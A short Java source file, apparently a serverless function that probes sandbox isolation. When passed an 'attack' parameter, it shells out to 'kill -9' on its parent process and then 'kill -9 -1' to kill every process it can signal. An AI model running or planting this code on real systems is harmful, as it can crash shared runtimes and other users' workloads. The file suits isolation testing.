import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Map;

/** Sends SIGKILL to its parent, then to every process it may signal (kill -9 -1, from a shell). */
public class Killparent {
    public static Map<String, Object> main(Map<String, Object> params) throws Exception {
        if (params.get("attack") == null) {
            return Map.of("pidns", Files.readSymbolicLink(Path.of("/proc/self/ns/pid")).toString());
        }
        String stat = Files.readString(Path.of("/proc/self/stat"));
        String parent = stat.substring(stat.lastIndexOf(')') + 2).split(" ")[1];
        Process kill = new ProcessBuilder("/bin/sh", "-c", "kill -9 " + parent).redirectErrorStream(true).start();
        String said = new String(kill.getInputStream().readAllBytes()).trim();
        System.out.println("SIGKILL to parent " + parent + ": " + (kill.waitFor() == 0 ? "sent" : said));
        System.out.flush();
        new ProcessBuilder("/bin/sh", "-c", "kill -9 -1").inheritIO().start().waitFor();
        return Map.of("survived", true);
    }
}
